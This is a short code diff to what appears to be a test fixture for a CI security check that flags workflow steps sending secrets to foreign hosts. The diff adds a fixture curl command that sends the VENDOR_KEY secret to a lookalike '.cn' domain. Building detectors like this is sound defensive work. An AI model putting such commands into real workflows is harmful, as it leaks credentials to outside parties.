@@ -96,7 +96,8 @@ export default defineCheck({
           'push',
           `- run: |
     curl https://hub.vendor.example https://vendor.example.collect.example -H "X-Auth: \${{ secrets.VENDOR_KEY }}"
-    curl https://hub.vendor.example https://api.vendor.example -H "X-Auth: \${{ secrets.VENDOR_KEY }}"`,
+    curl https://hub.vendor.example https://api.vendor.example -H "X-Auth: \${{ secrets.VENDOR_KEY }}"
+    curl https://s3.vendor.example https://s3.vendor.example.cn -H "X-Auth: \${{ secrets.VENDOR_KEY }}"`,
         ),
       },
       finds: ['foreign'],
